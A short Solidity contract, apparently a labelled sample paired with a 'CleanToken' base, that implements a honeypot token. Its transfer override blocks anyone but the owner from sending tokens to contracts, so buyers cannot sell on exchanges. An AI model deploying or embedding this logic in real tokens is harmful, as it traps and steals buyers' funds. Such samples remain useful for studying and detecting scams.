// SPDX-License-Identifier: Apache-2.0
pragma solidity ^0.8.20;

import {CleanToken} from "./clean_token.sol";

/// Everyone may get it, but only its owner may move it to a contract: nobody else sells.
contract HoneypotToken is CleanToken {
    constructor(uint256 supply) CleanToken(supply) {}

    function move(address from, address to, uint256 value) internal override {
        require(from == owner || to.code.length == 0, "closed");
        super.move(from, to, value);
    }
}
